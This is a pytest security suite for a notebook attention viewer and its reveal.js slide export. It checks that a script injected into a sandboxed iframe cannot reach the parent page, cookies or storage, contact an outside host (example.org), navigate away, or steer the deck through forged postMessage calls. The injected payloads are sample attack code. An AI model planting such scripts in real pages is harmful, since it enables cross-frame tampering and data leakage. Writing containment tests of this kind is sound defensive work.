"""A script that got into a view: it reaches neither the page around it nor any address.

No text gets there (``test_pages``, ``test_lab``); this is the second wall. A deck takes keys from
its frames and no other word.
"""

from pathlib import Path

import nbformat
import nbformat.v4 as v4
import pytest

from bertlab.inspection.attention_pages import Frame, framed
from bertlab.inspection.attention_viz import head_view
from tests.browser.needs import needs_chromium
from tests.browser.test_attention_views import ENGLISH, TOKENIZER, assert_drawn, small_model
from tests.hostile.watch import dialogs_of, what_ran
from workbook.publish.browser import export, open_page
from workbook.publish.slide_checks import READY
from workbook.publish.slides import build_deck

pytestmark = needs_chromium
OUTSIDE = "https://example.org"
# What a script may try; "reached" holds what it could do, and each try runs on its own.
REACH = """
const reached = [];
const tries = {
  page: () => parent.document.title, change: () => { parent.ran = 1; },
  top: () => { top.location.hash = "#/2"; }, store: () => localStorage.length,
  cookie: () => document.cookie, popup: () => open("about:blank").closed, code: () => eval("1"),
};
for (const [name, run] of Object.entries(tries)) {
  try { run(); reached.push(name); } catch {}
}
alert("a frame speaks");
"""
ASK = """
const make = (tag, settings) => Object.assign(document.createElement(tag), settings);
const add = (tag, settings) => document.body.append(make(tag, settings));
fetch("{0}/fetch").catch(() => {});
navigator.sendBeacon("{0}/beacon");
add("img", { src: "{0}/image" });
add("script", { src: "{0}/script" });
add("link", { rel: "stylesheet", href: "{0}/style" });
add("iframe", { src: "{0}/frame" });
add("p", { style: "background: url({0}/background)", innerText: "words" });
try { new WebSocket("wss://example.org/socket"); } catch {}
try { new EventSource("{0}/events"); } catch {}
const form = make("form", { action: "{0}/form" });
document.body.append(form);
form.submit();
""".replace("{0}", OUTSIDE)
LEAVE = f"leave = () => setTimeout(() => {{ location.href = '{OUTSIDE}/left'; }});"
TALK = """talk = () => {
  const say = (words) => parent.postMessage(words, "*");
  for (const key of ["s", "f", "o", 39, null, { a: 1 }, "constructor"]) say({ key });
  for (const words of ["ArrowRight", null, 7, ["ArrowRight"], { keyCode: 39 }]) say(words);
  say(JSON.stringify({ method: "slide", args: [2] }));
  say(JSON.stringify({ method: "next" }));
  say(JSON.stringify({ namespace: "reveal-notes", type: "heartbeat" }));
  heard = [];
  onmessage = ({ data }) => heard.push(String(data));
};"""
CODE = "\n".join(["view()"] * 9)  # too many lines for the view to be on the same piece of a slide
PLACE = "(({ h, v }) => `${h}/${v}`)(Reveal.getIndices())"
PIECES = """() => [...Reveal.getSlides()].map((slide) => {
  const { h, v } = Reveal.getIndices(slide);
  return [h, v, slide.querySelectorAll("iframe").length];
})"""


@pytest.fixture(scope="module")
def view():
    return head_view(small_model(), TOKENIZER, *ENGLISH)


def infected(view, script: str) -> str:
    """Return a view's HTML with a script in it that its page never had."""
    page = view.page.replace("</body>", f"<script>{script}</script></body>")
    assert page != view.page
    return framed(page, view.words, view.picture, Frame(400, 400))


def notebook(html: str):
    """Return a notebook of three slides; the view is on the second, and on a piece of its own."""
    slide = {"slideshow": {"slide_type": "slide"}}
    output = v4.new_output("display_data", {"text/html": html, "text/plain": "a view"})
    cell = v4.new_code_cell(CODE, outputs=[output], execution_count=1, metadata=slide)
    first, last = (v4.new_markdown_cell(f"# {n}", metadata=slide) for n in ("First", "Last"))
    return v4.new_notebook(cells=[first, cell, last])


def deck_of(html: str, folder: Path) -> Path:
    path, deck = folder / "view.ipynb", folder / "deck.html"
    nbformat.write(notebook(html), path)
    deck.write_text(build_deck(path), encoding="utf-8")
    return deck


def plain_page(html: str, folder: Path) -> Path:
    """Write a page without a policy of its own, as JupyterLab's is."""
    path = folder / "plain.html"
    path.write_text(f"<!DOCTYPE html><meta charset='utf-8'>{html}", encoding="utf-8")
    return path


def frame_of(page):
    return page.locator("iframe").element_handle().content_frame()


def asked_for(html: str, browser, folder: Path) -> list[str]:
    with open_page(plain_page(html, folder), browser=browser) as visit:
        sockets: list[str] = []
        visit.page.on("websocket", lambda socket: sockets.append(socket.url))
        visit.page.reload()
        visit.page.wait_for_timeout(700)
        return [*visit.outside, *sockets]


def test_it_reaches_nothing_around_it(view, browser, tmp_path):
    page = plain_page(infected(view, REACH), tmp_path)
    with open_page(page, browser=browser) as visit, dialogs_of(visit.page) as dialogs:
        visit.page.reload()
        frame = frame_of(visit.page)
        assert_drawn(frame)
        assert frame.evaluate("reached") == []
        assert visit.page.evaluate("window.ran") is None
        assert visit.page.url == page.as_uri() and dialogs == []


def test_without_a_sandbox_it_would(view, browser, tmp_path):
    html = infected(view, REACH).replace('sandbox="allow-scripts"', "")
    with open_page(plain_page(html, tmp_path), browser=browser) as visit:
        frame = frame_of(visit.page)
        assert {"page", "change", "top", "cookie"} <= set(frame.evaluate("reached"))
        assert visit.page.evaluate("window.ran") == 1


def test_it_asks_no_address(view, browser, tmp_path):
    assert asked_for(infected(view, ASK), browser, tmp_path) == []


def test_without_a_policy_it_would(view, browser, tmp_path):
    html = infected(view, ASK).replace("Content-Security-Policy", "")
    found = {address.rpartition("/")[2] for address in asked_for(html, browser, tmp_path)}
    assert found >= {"image", "script", "style", "frame", "fetch", "events"}


@pytest.mark.parametrize("policy", [True, False])
@pytest.mark.parametrize("kind", ["page", "deck"])
def test_its_frame_shows_no_other_address(view, kind, policy, browser, tmp_path):
    html = infected(view, LEAVE)
    path = deck_of(html, tmp_path) if kind == "deck" else export(notebook(html), tmp_path)
    text = path.read_text(encoding="utf-8")
    assert text.count("frame-src") == 1
    path.write_text(text if policy else text.replace("frame-src", "x-src"), encoding="utf-8")
    with open_page(f"{path.as_uri()}#/1/1", browser=browser) as visit:
        if kind == "deck":
            visit.page.wait_for_function(READY)  # a frame that moves to a next slide loads again
        frame = frame_of(visit.page)
        frame.wait_for_selector("body.drawn", state="attached")
        assert what_ran(visit.page) == []
        frame.evaluate("leave()")
        visit.page.wait_for_timeout(700)
        assert any("chrome-error:" in found for found in what_ran(visit.page))
        assert visit.outside == ([] if policy else [f"{OUTSIDE}/left"])


# --- what a frame says to a deck ------------------------------------------------------------------


def talk(deck: Path, browser) -> tuple[int, list[str]]:
    """Let a frame talk, and return the slide that is shown then, and what it was told."""
    with open_page(f"{deck.as_uri()}#/1/1", browser=browser) as visit:
        visit.page.wait_for_function(READY)
        assert visit.page.evaluate("Reveal.getCurrentSlide().querySelectorAll('iframe').length")
        frame = frame_of(visit.page)
        frame.evaluate("talk()")
        visit.page.wait_for_timeout(1000)
        return visit.page.evaluate("Reveal.getIndices().h"), frame.evaluate("heard")


def test_a_deck_takes_keys_and_no_orders(view, browser, tmp_path):
    assert talk(deck_of(infected(view, TALK), tmp_path), browser) == (1, [])


def test_reveal_alone_would_take_orders(view, browser, tmp_path):
    """The check itself: reveal.js does what a message says, and its notes go to who asks."""
    deck = deck_of(infected(view, TALK), tmp_path)
    text = deck.read_text(encoding="utf-8")
    assert text.count("  listenToFrames();") == 1
    deck.write_text(text.replace("  listenToFrames();", ""), encoding="utf-8")
    slide, heard = talk(deck, browser)
    assert slide == 2
    assert any("reveal-notes" in words for words in heard)


def test_keys_of_a_frame_on_another_slide_turn_nothing(view, browser, tmp_path):
    says = "say = () => parent.postMessage({ key: 'ArrowRight' }, '*')"
    deck = deck_of(infected(view, says), tmp_path)
    for start, end in (("0/0", "0/0"), ("1/0", "1/0"), ("1/1", "2/0")):
        with open_page(f"{deck.as_uri()}#/{start}", browser=browser) as visit:
            visit.page.wait_for_function(READY)
            assert visit.page.evaluate(PIECES) == [[0, 0, 0], [1, 0, 0], [1, 1, 1], [2, 0, 0]]
            frame_of(visit.page).evaluate("say()")
            visit.page.wait_for_timeout(300)
            assert visit.page.evaluate(PLACE) == end
